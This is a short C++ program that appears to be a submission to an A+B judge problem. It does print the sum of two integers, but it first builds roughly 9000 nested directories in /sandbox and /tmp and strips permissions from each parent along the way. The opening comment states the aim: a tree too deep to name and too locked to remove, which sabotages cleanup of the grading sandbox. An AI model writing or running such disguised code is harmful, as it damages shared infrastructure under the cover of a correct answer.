// Deeper than any path can name, without rights on the way.
#include <cstdio>
#include <sys/stat.h>
#include <unistd.h>

static void nest(const char* place) {
  if (chdir(place) != 0) return;
  for (int depth = 0; depth < 9000; ++depth) {
    if (mkdir("a-folder-in-a-folder", 0700) != 0 || chdir("a-folder-in-a-folder") != 0) return;
    chmod("..", depth == 0 ? 0700 : 0);
  }
}

int main() {
  int a, b;
  if (std::scanf("%d %d", &a, &b) != 2) return 1;
  nest("/sandbox");
  nest("/tmp");
  std::printf("%d\n", a + b);
}
